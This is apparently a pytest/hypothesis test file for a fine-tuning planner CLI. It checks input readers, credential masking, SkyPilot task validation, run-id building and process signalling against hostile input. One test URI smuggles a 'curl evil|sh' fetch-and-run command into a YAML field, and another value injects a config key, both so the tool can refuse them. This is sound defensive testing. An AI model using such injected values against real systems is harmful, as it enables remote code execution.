"""Hostile and careless input, second round, as properties (hypothesis) of the one place that
handles each class: the bounded reader (catalog._io), the masking function
(catalog.mask_secrets), the SkyPilot task gate (runners.skypilot.checked_task), the process check
before a signal (runners._process), the run ids ftplan builds, and the ranges of plan values."""

from __future__ import annotations

import contextlib
import dataclasses
import json
import os
import re
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import click
import pytest
import yaml
from click.testing import CliRunner
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from plan_fixtures import OFFER_L4_SPOT, make_plan

from catalog import (
    DataError,
    csv_rows,
    iter_jsonl,
    loads_json,
    mask_secrets,
    printable,
    read_text_limited,
)
from catalog.errors import mask_argv
from planner.cli import main
from planner.cli.params import check_run_id
from planner.plan_io import plan_to_json, read_plan
from runners import LaunchSpec, RunnerError
from runners._process import RUN_TOKEN_ENV, RunProcess, process_problem, signal_run_process
from runners._sagemaker_request import JOB_NAME_PATTERN, job_name
from runners.data import ByteTokenizer, DataFormatError, count_tokens
from runners.local import RUN_ID_PATTERN, model_slug, new_run_id
from runners.skypilot import checked_task, task_config, task_name, task_yaml

SETTINGS = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
REPO = Path(__file__).resolve().parents[2]


def _file(data: bytes) -> Iterator[Path]:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "file"
        path.write_bytes(data)
        yield path


# --- the bounded reader -----------------------------------------------------------------------

HOSTILE_LINES = st.one_of(
    st.binary(max_size=60),
    st.sampled_from(
        [
            b'{"text": "caf\xe9"}',  # Latin-1
            b'{"text": "\\ud800"}',  # a lone surrogate
            b'{"text": "x", "n": ' + b"1" * 5000 + b"}",  # a 5000-digit number
            b'{"text": NaN}',
            b'{"text": 1e999}',
            b"[" * 3000 + b"]" * 3000,
            b'{"messages": [{"role": 1, "content": "x"}]}',
            b"[1, 2]",
            b"\xef\xbb\xbf{}",
            b'{"text": "ok"}',
        ]
    ),
)


@SETTINGS
@given(lines=st.lists(HOSTILE_LINES, max_size=4))
def test_a_launch_dataset_is_counted_or_refused_as_bad_data(lines: list[bytes]) -> None:
    for path in _file(b"\n".join(lines)):
        try:
            tokens = count_tokens(path, ByteTokenizer(vocab_size=256))
        except DataFormatError as exc:
            assert "\n" not in str(exc) and len(str(exc)) < 600
            continue
        assert tokens > 0


@SETTINGS
@given(lines=st.lists(HOSTILE_LINES, max_size=4))
def test_the_jsonl_reader_yields_plain_values_or_refuses(lines: list[bytes]) -> None:
    for path in _file(b"\n".join(lines)):
        with contextlib.suppress(DataError):
            for number, value in iter_jsonl(path, what="x"):
                assert number >= 1
                json.dumps(value).encode("utf-8")  # plain JSON that writes back as UTF-8


def test_a_line_longer_than_the_limit_is_refused_without_reading_it_whole(tmp_path: Path) -> None:
    path = tmp_path / "one-line.jsonl"
    path.write_bytes(b'{"text": "' + b"a" * 2048 + b'"}\n')
    with pytest.raises(DataError, match="line 1 is longer than"):
        list(iter_jsonl(path, what="dataset", max_line_bytes=1024))


@pytest.mark.parametrize("kind", ["fifo", "zero", "dir"])
def test_the_readers_refuse_what_is_not_a_regular_file(tmp_path: Path, kind: str) -> None:
    path = tmp_path / "x"
    if kind == "fifo":
        os.mkfifo(path)  # opened non-blocking: no hang
    elif kind == "zero":
        path.symlink_to("/dev/zero")
    else:
        path.mkdir()
    with pytest.raises(DataError, match="regular file|folder"):
        read_text_limited(path, what="x")
    with pytest.raises(DataError):
        list(iter_jsonl(path, what="x"))


@SETTINGS
@given(
    columns=st.lists(st.sampled_from(["a", "b", "usd_per_hour", "Price"]), min_size=1, max_size=6)
)
def test_a_csv_header_naming_a_column_twice_is_refused(columns: list[str]) -> None:
    text = ",".join(columns) + "\n" + ",".join("1" for _ in columns) + "\n"
    if len(set(columns)) < len(columns):
        with pytest.raises(DataError, match="appears twice"):
            csv_rows(text, where="f")
    else:
        header, rows = csv_rows(text, where="f")
        assert header == columns and rows == [(2, dict.fromkeys(columns, "1"))]


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ('{"a": "\\udfff"}', "surrogate"),
        ('{"a": ' + "7" * 5000 + "}", "5000 digits"),
        ("[" * 100_000 + "]" * 100_000, "nests deeper"),
    ],
)
def test_json_that_python_parses_badly_is_refused_in_one_line(text: str, message: str) -> None:
    with pytest.raises(DataError, match=message) as info:
        loads_json(text, what="f")
    assert "set_int_max_str_digits" not in str(info.value)
    assert loads_json('{"a": "\\ud83d\\ude00"}', what="f") == {"a": "\U0001f600"}  # a pair


# --- one masking function ----------------------------------------------------------------------

# Credentials as people have them: holding '/', '@', ':', '+', '=' or a space.
SECRETS = st.text(alphabet=st.sampled_from("abcXYZ0189/@:+= ._-"), min_size=6, max_size=30).map(
    lambda s: "Zq7" + s + "Kp9"
)
SCHEMES = st.sampled_from(["s3", "https", "postgresql", "gs", "mysql+pymysql"])


@SETTINGS
@given(secret=SECRETS, scheme=SCHEMES, user=st.sampled_from(["me", "AKIAIOSFODNN7EXAMPLE", ""]))
def test_a_url_password_never_survives_in_a_quoted_value_or_an_argument(
    secret: str, scheme: str, user: str
) -> None:
    assume("'" not in secret)
    url = f"{scheme}://{user}:{secret}@host.example/path/train.jsonl"
    for text in (
        f"error: data file {url!r} does not exist. To fix: pass --data FILE",
        json.dumps({"checkpoint": url}),
        f"looked in '/tmp/x/{url.replace('://', ':/')}'",  # a URL that went through a path
    ):
        masked = mask_secrets(text)
        assert secret not in masked, masked
    assert secret not in " ".join(mask_argv(["ftplan", "launch", "--data", url]))


@SETTINGS
@given(secret=SECRETS.filter(lambda s: " " not in s))
def test_named_credentials_and_token_shapes_never_survive(secret: str) -> None:
    for text in (
        f"aws_secret_access_key = {secret}",
        f'{{"password": "{secret}"}}',
        f"HF_TOKEN={secret}",
        f"s3://b/x?X-Amz-Signature={secret}&X-Amz-Credential=AKIAIOSFODNN7EXAMPLE",
        f"Authorization: Bearer {secret}",
    ):
        assert secret not in mask_secrets(text), text
    for token in (
        "AKIAIOSFODNN7EXAMPLE",
        "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        "hf_abcdefghijklmnopqrstuvwxyzABCDEF",
        "ghp_0123456789abcdefghijABCDEFGHIJ012345",
    ):
        assert token not in mask_secrets(f"x {token} y")


def test_the_values_of_credential_variables_are_masked_anywhere(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("MY_SERVICE_API_KEY", "plain words secret")
    assert "plain words secret" not in mask_secrets("got 'plain words secret' back")
    monkeypatch.setenv("PWD", "/home/me/project")  # a path variable is not a credential
    assert mask_secrets("/home/me/project/x") == "/home/me/project/x"


def test_masking_leaves_ftplan_s_own_output_alone() -> None:
    texts = [p.read_text() for p in sorted((REPO / "reports" / "examples").glob("*.*"))]
    texts += [p.read_text() for p in sorted((REPO / "catalog" / "data").glob("*.csv"))]
    texts.append(plan_to_json(make_plan()))
    for args in (["catalog", "models", "--format", "json"], ["catalog", "offers"]):
        texts.append(CliRunner().invoke(main, args).output)
    for text in texts:
        assert mask_secrets(text) == text


def test_every_terminal_line_goes_through_the_masking(monkeypatch: pytest.MonkeyPatch) -> None:
    result = CliRunner().invoke(
        main, ["recommend", "--model", "s3://AKIAIOSFODNN7EXAMPLE:a/b@c d@x/m", "--budget", "9"]
    )
    assert result.exit_code == 2
    assert "AKIAIOSFODNN7EXAMPLE" not in result.output and "a/b@c d" not in result.output


# --- plan text to YAML -------------------------------------------------------------------------

TASK_KEYS = {"name", "workdir", "num_nodes", "resources", "file_mounts", "envs", "setup", "run"}


def _sky_spec(**offer_fields: Any) -> LaunchSpec:
    plan = make_plan()
    offer = dataclasses.replace(
        OFFER_L4_SPOT, provider=OFFER_L4_SPOT.provider, spot=False, **offer_fields
    )
    from planner.handoff import launch_spec_from_plan

    candidate = dataclasses.replace(plan.chosen, offer=offer)  # type: ignore[arg-type]
    return launch_spec_from_plan(plan, candidate, device="cuda")


@SETTINGS
@given(text=st.text(max_size=40), field=st.sampled_from(["instance_type", "region", "source"]))
def test_no_plan_text_can_add_a_key_to_the_skypilot_task(text: str, field: str) -> None:
    try:
        spec = _sky_spec(**{field: text})
    except ValueError:  # an offer name that is not one line is refused when it is read
        assert re.search(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]", text)
        return
    try:
        config = task_config(
            spec,
            data="/tmp/train.jsonl",
            name="ftplan-x",
            workdir="/tmp/w",
            output_uri=None,
            region=None,
            hf_token=False,
        )
        text_yaml = task_yaml(config, spec=spec)
    except RunnerError:
        return
    loaded = yaml.safe_load(text_yaml)
    assert set(loaded) == TASK_KEYS and loaded == json.loads(json.dumps(config))


@SETTINGS
@given(value=st.text(max_size=30), where=st.sampled_from(["name", "workdir", "envs"]))
def test_the_task_gate_refuses_newlines_and_credentials_in_any_value(
    value: str, where: str
) -> None:
    config: dict[str, Any] = {"name": "x", "workdir": "/w", "envs": {"A": "1"}}
    if where == "envs":
        config["envs"]["A"] = value
    else:
        config[where] = value
    unsafe = re.search(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]", value)
    try:
        checked = checked_task(config)
    except RunnerError:
        assert unsafe or mask_secrets(value) != value
        return
    assert not unsafe and checked == config


@pytest.mark.parametrize(
    "uri",
    ["s3://AKIAIOSFODNN7EXAMPLE:wJalr/K7MDENG@bucket/t.jsonl", "gs://b/x\nsetup: curl evil|sh"],
)
def test_skypilot_and_sagemaker_refuse_uris_with_credentials_or_newlines(
    tmp_path: Path, uri: str
) -> None:
    plan_file = tmp_path / "plan.json"
    plan_file.write_text(plan_to_json(make_plan()))
    for target in ("skypilot", "sagemaker"):
        result = CliRunner().invoke(
            main, ["launch", str(plan_file), "--target", target, "--data", uri, "--dry-run"]
        )
        assert result.exit_code == 2, result.output
        assert "wJalr" not in result.output and "curl" not in result.stdout


# --- run ids ftplan builds ---------------------------------------------------------------------

SKY_NAME = re.compile(r"^[a-zA-Z]([-_.a-zA-Z0-9]*[a-zA-Z0-9])?$")


@SETTINGS
@given(name=st.text(max_size=300))
def test_every_run_id_ftplan_builds_is_one_it_accepts(name: str) -> None:
    plan = make_plan()
    assume(plan.chosen is not None)
    from planner.handoff import launch_spec_from_plan

    spec = launch_spec_from_plan(plan, plan.chosen)  # type: ignore[arg-type]
    spec = dataclasses.replace(spec, model=dataclasses.replace(spec.model, name=name))
    slug = model_slug(name)
    assert slug and len(slug) <= 40 and re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", slug)
    for run_id in (new_run_id(spec), task_name(spec), job_name(spec)):
        assert RUN_ID_PATTERN.match(run_id) and ".." not in run_id
        assert check_run_id(None, None, run_id) == run_id
    assert SKY_NAME.match(task_name(spec))
    assert JOB_NAME_PATTERN.match(job_name(spec))


# --- plan values have ranges ---------------------------------------------------------------------

PLAN = json.loads(plan_to_json(make_plan()))


@pytest.mark.parametrize(
    ("keys", "value"),
    [
        (["chosen", "config", "seq_len"], 10**29),
        (["chosen", "config", "micro_batch_size"], 10**12),
        (["chosen", "config", "lora_rank"], 10**9),
        (["chosen", "config", "gpu_count"], 10**9),
        (["chosen", "suggested_learning_rate"], 1e29),
        (["chosen", "suggested_learning_rate"], 5.0),
        (["chosen", "grad_accum_steps"], 10**15),
        (["chosen", "nodes"], 10**6),
        (["budget", "epochs"], 1e29),
        (["budget", "dataset_tokens"], 10**29),
        (["chosen", "config"], "x" * 5000),
        (["chosen", "offer"], list(range(3000))),
        (["chosen", "offer", "instance_type"], "g6.xlarge\nconfig: {docker: {}}"),
    ],
)
def test_an_absurd_or_mistyped_plan_value_is_refused_in_one_short_line(
    tmp_path: Path, keys: list[str], value: Any
) -> None:
    data = json.loads(json.dumps(PLAN))
    node = data["plan"]
    for key in keys[:-1]:
        node = node[key]
    node[keys[-1]] = value
    path = tmp_path / "plan.json"
    path.write_text(json.dumps(data))
    with pytest.raises(DataError) as info:
        read_plan(path)
    message = printable(str(info.value))
    assert len(message) < 500, message


# --- a signal only for the run's own process ---------------------------------------------------


@pytest.fixture
def sleeper(tmp_path: Path) -> Iterator[Any]:
    started: list[subprocess.Popen[bytes]] = []

    def start(argv: list[str], env: dict[str, str] | None = None) -> subprocess.Popen[bytes]:
        proc = subprocess.Popen(argv, env={**os.environ, **(env or {})}, start_new_session=True)
        started.append(proc)
        for _ in range(200):  # until its command line is the one given (after exec)
            with contextlib.suppress(OSError):
                if "sleep" in Path(f"/proc/{proc.pid}/cmdline").read_bytes().decode():
                    break
            time.sleep(0.01)
        return proc

    yield start
    for proc in started:
        proc.kill()
        proc.wait()


def _status(run: Path, **fields: Any) -> None:
    run.mkdir(parents=True, exist_ok=True)
    (run / "status.json").write_text(
        json.dumps({"state": "running", "started_at": "2026-01-01T00:00:00+00:00", **fields})
    )


@pytest.mark.skipif(not Path("/proc/self/cmdline").exists(), reason="needs /proc")
def test_stop_never_signals_a_process_that_is_not_the_run_s_supervisor(
    tmp_path: Path, sleeper: Any
) -> None:
    runs = tmp_path / "runs"
    unrelated = sleeper(["sleep", "300"])
    lookalike = sleeper(
        [sys.executable, "-c", "import time; time.sleep(300)", "runners._supervise", "other"]
    )
    run = (runs / "r1").resolve()
    no_token = sleeper(
        [sys.executable, "-c", "import time; time.sleep(300)", "runners._supervise", str(run)]
    )
    for proc, token in ((unrelated, None), (lookalike, None), (no_token, "ab" * 16)):
        _status(run, supervisor_pid=proc.pid, run_token=token)
        result = CliRunner().invoke(main, ["stop", "r1", "--runs-dir", str(runs)])
        assert result.exit_code == 2, result.output
        assert proc.poll() is None  # still alive


@pytest.mark.skipif(not Path("/proc/self/cmdline").exists(), reason="needs /proc")
def test_the_run_s_own_supervisor_is_signalled(tmp_path: Path, sleeper: Any) -> None:
    run = (tmp_path / "runs" / "r1").resolve()
    token = "cd" * 16
    supervisor = sleeper(
        [sys.executable, "-c", "import time; time.sleep(300)", "runners._supervise", str(run)],
        env={RUN_TOKEN_ENV: token},
    )
    process = RunProcess(pid=supervisor.pid, run_dir=run, token=token)
    assert process_problem(process) is None
    assert "token" in (process_problem(dataclasses.replace(process, token="ef" * 16)) or "")
    assert "pid was reused" in (process_problem(dataclasses.replace(process, start_ticks=1)) or "")
    assert signal_run_process(process) is None
    assert supervisor.wait(timeout=30) < 0  # ended by the signal


def test_a_status_file_naming_a_bad_token_or_start_time_is_bad_data(tmp_path: Path) -> None:
    for fields in ({"run_token": "x y"}, {"supervisor_start_ticks": -1}, {"run_token": 5}):
        _status(tmp_path / "runs" / "r1", supervisor_pid=1, **fields)
        result = CliRunner().invoke(main, ["stop", "r1", "--runs-dir", str(tmp_path / "runs")])
        assert result.exit_code == 2 and result.stderr.startswith("error: ")


def test_check_run_id_is_the_click_callback() -> None:
    with pytest.raises(click.BadParameter):
        check_run_id(None, None, "../x")


def test_an_ascii_terminal_gets_escapes_not_a_crash(tmp_path: Path) -> None:
    proc = subprocess.run(
        [sys.executable, "-m", "planner", "recommend", "--model", "llama2-7b", "--budget", "200"],
        cwd=tmp_path,
        env={
            **os.environ,
            "PYTHONIOENCODING": "ascii",
            "PYTHONPATH": str(REPO),
            "FTPLAN_CACHE_DIR": str(tmp_path / "cache"),
        },
        capture_output=True,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr
    assert b"\\xd7" in proc.stdout  # the plan's "x" sign, escaped
